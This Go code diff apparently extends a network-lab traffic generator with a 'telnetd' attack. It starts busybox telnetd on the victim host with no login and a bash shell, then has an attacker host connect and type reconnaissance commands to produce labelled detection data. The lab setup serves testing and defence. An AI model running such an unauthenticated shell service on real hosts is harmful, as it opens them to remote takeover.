@@ -11,6 +11,7 @@ import (
 	"net"
 	"net/netip"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strconv"
 	"strings"
@@ -20,7 +21,7 @@ import (
 )
 
 // Attack names accepted in Config.Attacks.
-var AttackNames = []string{"nmap", "hping3", "hydra", "beacon", "dnstunnel", "revshell", "icmpexfil", "arpspoof"}
+var AttackNames = []string{"nmap", "hping3", "hydra", "beacon", "dnstunnel", "revshell", "icmpexfil", "arpspoof", "telnetd"}
 
 // attack runs one labelled attack from the attacker host within ctx (its
 // time slot) and returns the command it ran, or a reason to skip it.
@@ -35,6 +36,7 @@ var attacks = map[string]attackFunc{
 	"revshell":  revshellAttack,
 	"icmpexfil": icmpExfilAttack,
 	"arpspoof":  arpspoofAttack,
+	"telnetd":   telnetdAttack,
 }
 
 func runTool(ctx context.Context, att *host, prog string, args ...string) (string, error) {
@@ -218,6 +220,88 @@ func revshellAttack(ctx context.Context, l *lab, att *host) (string, string, err
 	case <-time.After(5 * time.Second):
 	}
 	return fmt.Sprintf("victim: %s; attacker on %s:%d types: %s", line, att.addr, portShell, strings.Join(shellCommands, "; ")), "", nil
+}
+
+// telnetPrompt is the prompt of the backdoor shell telnetdAttack serves
+// (fixed, so that the capture does not depend on the machine's bashrc).
+const telnetPrompt = "admin@web:~$ "
+
+// telnetCommands are what the attacker types into the backdoor (no id:
+// its output is a shell hint of its own, and the test is about the prompt).
+var telnetCommands = []string{"uname -a", "ls /", "cat /etc/hostname", "exit"}
+
+// telnetdAttack: a telnet backdoor, as IoT malware leaves one. The web
+// server host (the victim) runs busybox's telnetd on port 23 with a bash
+// and no login (-l), and the attacker connects and types a few commands
+// at its prompt. The shell runs in the victim's namespace only, without
+// rc files, and is killed when the slot ends; the truth's attacker is the
+// client, the packets that serve the shell come from the victim. Needs a
+// busybox with the telnetd applet (Debian: busybox-static).
+func telnetdAttack(ctx context.Context, l *lab, att *host) (string, string, error) {
+	busybox, err := lookPath("busybox")
+	if err != nil {
+		return "", "busybox not installed (apt-get install busybox-static)", nil
+	}
+	if out, _ := exec.CommandContext(ctx, busybox, "telnetd", "--help").CombinedOutput(); bytes.Contains(out, []byte("applet not found")) {
+		return "", "busybox has no telnetd applet (apt-get install busybox-static)", nil
+	}
+	bash, err := lookPath("bash")
+	if err != nil {
+		return "", "bash not installed", nil
+	}
+	dir, err := os.MkdirTemp("", "vigil-lab-telnetd-")
+	if err != nil {
+		return "", "", err
+	}
+	defer os.RemoveAll(dir)
+	login := filepath.Join(dir, "shell")
+	script := fmt.Sprintf("#!/bin/sh\nexec env -i PS1='%s' HOME=/nonexistent TERM=dumb PATH=/usr/sbin:/usr/bin:/sbin:/bin %s --norc --noprofile -i\n",
+		telnetPrompt, bash)
+	if err := os.WriteFile(login, []byte(script), 0o700); err != nil {
+		return "", "", err
+	}
+	victim := l.hosts[0]
+	srv := victim.ns.command(ctx, busybox, "telnetd", "-F", "-p", "23", "-b", victim.addr.String(), "-l", login)
+	if err := srv.Start(); err != nil {
+		return "", "", fmt.Errorf("start telnetd: %w", err)
+	}
+	defer func() { _ = srv.Process.Kill(); _ = srv.Wait() }()
+	var conn net.Conn
+	for i := 0; i < 50; i++ { // until telnetd listens (at most 5 s)
+		if conn, err = att.ns.dial(ctx, "tcp", netip.AddrPortFrom(victim.addr, 23).String()); err == nil || ctx.Err() != nil {
+			break
+		}
+		if !sleep(ctx, 100*time.Millisecond) {
+			break
+		}
+	}
+	if conn == nil {
+		return "", "", fmt.Errorf("connect to telnetd: %v", err)
+	}
+	defer conn.Close()
+	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
+	defer stop()
+	done := make(chan struct{})
+	go func() { // the banner, prompts and output; the lab keeps none of it
+		defer close(done)
+		_, _ = io.Copy(io.Discard, conn)
+	}()
+	rng := rand.New(rand.NewPCG(l.cfg.Seed, 0x7e1))
+	for _, c := range telnetCommands {
+		if !sleep(ctx, time.Duration(1000+rng.IntN(2000))*time.Millisecond) {
+			break
+		}
+		if _, err := conn.Write([]byte(c + "\r\n")); err != nil {
+			break
+		}
+	}
+	select {
+	case <-done:
+	case <-ctx.Done():
+	case <-time.After(5 * time.Second):
+	}
+	return fmt.Sprintf("victim: busybox telnetd -F -p 23 -l <bash, prompt %q>; attacker types: %s", telnetPrompt,
+		strings.Join(telnetCommands, "; ")), "", nil
 }
 
 // exfilSecret is what icmpExfilAttack leaks: a made-up credentials file
